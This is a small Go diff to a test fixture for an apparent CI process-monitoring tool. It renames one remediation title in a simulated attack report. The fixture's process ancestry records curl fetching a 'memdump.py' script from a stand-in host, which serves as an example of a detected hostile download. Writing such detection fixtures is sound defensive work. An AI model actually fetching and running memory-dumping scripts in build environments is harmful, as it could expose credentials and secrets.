@@ -82,7 +82,7 @@ func attacked() *sallyportv1.JobReport {
 			Ancestry:  []*sallyportv1.Process{{Executable: "/usr/bin/curl", Arguments: []string{"curl", "-sSf", "http://gist.example.test/memdump.py"}}},
 			Remedies: []*sallyportv1.Remedy{
 				{Title: "Approve it for this job", Text: `sallyport baseline approve 750dc6a7222a015a630bcc2014e46b6e --reason "..."`},
-				{Title: "Allow it in block mode", Text: "gist.example.test:80"},
+				{Title: "As an allowed endpoint", Text: "gist.example.test:80"},
 			},
 		},
 	}
